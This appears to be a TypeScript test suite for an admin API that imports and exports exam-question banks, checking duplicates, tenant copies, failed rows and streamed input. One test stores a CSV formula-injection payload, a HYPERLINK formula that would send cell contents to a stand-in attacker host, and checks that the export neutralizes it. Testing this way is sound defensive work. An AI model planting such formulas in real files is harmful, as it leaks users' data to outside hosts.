import { expect, describe, it } from "vitest";
import { readFile } from "../../../../src/api/admin/formats/files/read-file.ts";
import seed from "../../../sample.json" with { type: "json" };
import { backendForEachTest } from "../../../test-backend/backend-for-each-test.ts";
import { fillBank } from "../../../test-backend/bank.ts";
import type { BodyParts } from "../../../test-backend/calls.ts";
import { TENANT_PATH, countBank, draft, checkImport } from "../../../test-backend/checked-import.ts";

describe("an import", () => {
  const { backend, admin } = backendForEachTest(["admin"]);

  it("adds nothing until it is stored, then all rows in the order of the file", async () => {
    const before = await countBank(backend.store);
    const rows = Array.from({ length: 1200 }, (_, index) =>
      draft(`Question ${index}`, { domain: `D${index % 3}` }),
    );
    const { verdicts, store } = await checkImport(admin, rows);
    expect(verdicts.filter(({ verdict }) => verdict === "new")).toHaveLength(1200);
    expect(await countBank(backend.store)).toEqual(before);
    expect((await store()).body).toEqual([
      { result: { created: 1200, changed: 0, skipped: 0, categories: 1, subcategories: 3 } },
    ]);
    expect(await countBank(backend.store)).toEqual({
      categories: before.categories + 1,
      subcategories: before.subcategories + 3,
      questions: before.questions + 1200,
    });
    const added = (await backend.store.list("questions")).slice(-1200);
    expect(added.map(({ text }) => text)).toEqual(rows.map(({ text }) => text));
    expect(added[0]).toMatchObject({
      version: 1,
      isRetired: false,
      options: [{ id: 1 }, { id: 2 }],
      changedAt: "2026-11-20T18:00:00.000Z",
    });
  });

  it("finds duplicates in the bank and among the rows, and reports the differences", async () => {
    const rows = Array.from({ length: 700 }, (_, index) => draft(`Question ${index}`));
    await (await checkImport(admin, rows)).store();
    const again = await checkImport(admin, [...rows, draft("new"), draft("NEW ", { correctAnswer: 2 })]);
    expect(
      again.verdicts.slice(0, 700).every((it) => it.verdict === "duplicate" && it.differs.length === 0),
    ).toBe(true);
    expect(again.verdicts.slice(700)).toEqual([
      { verdict: "new" },
      { verdict: "duplicate", of: { row: 700 }, differs: ["wording", "key"] },
    ]);
    expect((await again.store()).body).toEqual([
      { result: { created: 1, changed: 0, skipped: 701, categories: 0, subcategories: 0 } },
    ]);
  });

  it.each(["csv", "json"] as const)("of an export as %s changes nothing", async (format) => {
    const before = await countBank(backend.store);
    const { text, headers } = await admin("GET", `/api/admin/tenants/1/questions/export?format=${format}`);
    expect(headers["X-Total-Count"]).toBe(String(seed.questions.length));
    const { rows, problem } = await readFile(new TextEncoder().encode(text).buffer, {
      name: `a.${format}`,
      format: null,
      encoding: null,
      defaults: {},
    });
    expect([problem, rows.length]).toEqual([null, seed.questions.length]);
    const { verdicts, store } = await checkImport(
      admin,
      rows.map(({ draft }) => draft),
      {
        tenant: "/api/admin/tenants/1",
        createMissing: false,
      },
    );
    expect(verdicts).toEqual(
      seed.questions.map(({ id }) => ({ verdict: "duplicate", of: { questionId: id }, differs: [] })),
    );
    expect((await store()).body).toMatchObject([
      { result: { created: 0, changed: 0, skipped: rows.length } },
    ]);
    expect(await countBank(backend.store)).toEqual(before);
  });

  it("restores the texts with formulas that the export neutralized", async () => {
    const formula = '=HYPERLINK("http://evil.test/?"&A1)';
    const options = ["+1+1", "-2", "@SUM(A1)", "'=1"].map((text) => ({ text }));
    const formulas = draft(formula, { options, explanation: "\t=1 is one" });
    await (await checkImport(admin, [formulas])).store();
    const { text } = await admin("GET", `${TENANT_PATH}/questions/export?format=csv`);
    const line = text.split("\r\n").find((one) => one.includes("HYPERLINK")) ?? "";
    for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1)"`, "'+1+1", "'-2", "'@SUM(A1)", "''=1"])
      expect(line).toContain(`,${cell},`);
    expect(line).not.toMatch(/(?:^|,)"?[=+@-]/);
    const { rows } = await readFile(new TextEncoder().encode(text).buffer, {
      name: "bank.csv",
      format: null,
      encoding: null,
      defaults: {},
    });
    expect(rows.find(({ draft: read }) => read?.text === formula)?.draft?.options).toMatchObject(options);
  });

  it("finds duplicates among all questions of a bank of more than 5,000", async () => {
    await (await checkImport(admin, [draft("Oldest")])).store();
    await fillBank(backend.store, 2, 5000);
    expect((await checkImport(admin, [draft("Oldest")])).verdicts).toMatchObject([{ verdict: "duplicate" }]);
  });

  it("into another tenant creates the same bank there", async () => {
    const from = await admin("GET", "/api/admin/tenants/1/questions/export?format=json");
    const { questions } = from.body as { questions: object[] };
    await (await checkImport(admin, questions)).store();
    const to = await admin("GET", `${TENANT_PATH}/questions/export?format=json`);
    const withoutIds = (list: object[]) => list.map((question) => ({ ...question, id: 0 }));
    expect(withoutIds((to.body as { questions: object[] }).questions)).toEqual(withoutIds(questions));
  });

  it("gives equal scenarios one id, and others separate ids", async () => {
    const scenario = { title: "Harbour", text: "Two sites." };
    const other = { title: "Harbour", text: "Three sites." };
    const { store } = await checkImport(admin, [
      draft("1", { scenario }),
      draft("2", { scenario }),
      draft("3", { scenario: other }),
    ]);
    await store();
    const [one, two, three] = (await backend.store.list("questions"))
      .slice(-3)
      .map((doc) => doc.scenario?.id);
    expect(one).toBe(two);
    expect(three).not.toBe(one);
  });

  it("creates each name once, ignoring case and whitespace", async () => {
    const { summary, store } = await checkImport(admin, [
      draft("1", { domain: "Alarms" }),
      draft("2", { certification: " fire  SAFETY", domain: "alarms " }),
    ]);
    expect(summary.missing).toEqual([
      { certification: "Fire Safety", rows: 2 },
      { certification: "Fire Safety", domain: "Alarms", rows: 2 },
    ]);
    expect((await store()).body).toMatchObject([{ result: { categories: 1, subcategories: 1 } }]);
  });

  it("creates at most a thousand names, because a column that differs in every row contains no domains", async () => {
    const rows = Array.from({ length: 1001 }, (_, index) => draft(`Q ${index}`, { domain: `D ${index}` }));
    const { verdicts } = await checkImport(admin, rows);
    expect(verdicts.filter(({ verdict }) => verdict === "new")).toHaveLength(999);
    const refused = {
      verdict: "failed",
      path: "domain",
      reason: "More than 1,000 certifications and domains would be created. Is this their column?",
    };
    expect(verdicts.slice(999)).toEqual([refused, refused]);
    const again = await checkImport(admin, [
      ...rows.slice(0, 999),
      draft("Another in D 5", { domain: "d  5" }),
    ]);
    expect(again.verdicts.at(-1)).toEqual({ verdict: "new" });
    expect((await again.store()).body).toEqual([
      { result: { created: 1000, changed: 0, skipped: 0, categories: 1, subcategories: 999 } },
    ]);
  });

  it("stores nothing if one row fails", async () => {
    const before = await countBank(backend.store);
    const { store } = await checkImport(admin, [draft("1"), draft("2", { correctAnswer: 9 }), draft("3")]);
    const { status, body } = await store();
    expect([status, body]).toEqual([422, "Rows that failed can't be imported. Nothing was stored."]);
    expect(await countBank(backend.store)).toEqual(before);
  });

  it("stores the other rows if failed rows are left out", async () => {
    const before = await countBank(backend.store);
    const rows = [draft("1"), draft("2", { correctAnswer: 9 }), null, draft("3"), draft("1")];
    const { store } = await checkImport(admin, rows);
    expect((await store("skipFailed=1&")).body).toEqual([
      { result: { created: 2, changed: 0, skipped: 1, categories: 1, subcategories: 0 } },
    ]);
    expect((await countBank(backend.store)).questions).toBe(before.questions + 2);
    // The digest stands for the verdicts, so nothing is stored twice.
    expect((await store("skipFailed=1&")).status).toBe(409);
  });

  it("reports unknown certifications and domains if none are created", async () => {
    await (await checkImport(admin, [draft("1")])).store();
    const { verdicts } = await checkImport(
      admin,
      [draft("2", { certification: "Ice" }), draft("3", { domain: "Alarms" }), draft("4")],
      { createMissing: false },
    );
    expect(verdicts).toEqual([
      {
        verdict: "failed",
        path: "certification",
        reason: "“Ice” is not a certification of this organization",
      },
      { verdict: "failed", path: "domain", reason: "“Alarms” is not a domain of Fire Safety" },
      { verdict: "new" },
    ]);
  });

  it("reads lines that arrive in parts, and fails those that are too long or invalid by themselves", async () => {
    const lines = [draft("1"), draft("2"), draft("x".repeat(800_000)), draft("4")]
      .map((row) => JSON.stringify(row))
      .join("\r\n");
    const text = `\n${lines}\n{"text"\n${JSON.stringify(draft("\0"))}\n  \n${JSON.stringify(draft("7"))}`;
    const inParts = (size: number): BodyParts =>
      async function* () {
        for (let from = 0; from < text.length; from += size) yield text.slice(from, from + size);
      };
    for (const size of [997, 64_000, text.length]) {
      const { verdicts, summary } = await checkImport(admin, inParts(size));
      expect(verdicts.map(({ verdict }) => verdict)).toEqual([
        "new",
        "new",
        "failed",
        "new",
        "failed",
        "failed",
        "new",
      ]);
      expect(summary).toMatchObject({ rows: 7, fresh: 4, failed: 3 });
    }
  });
});
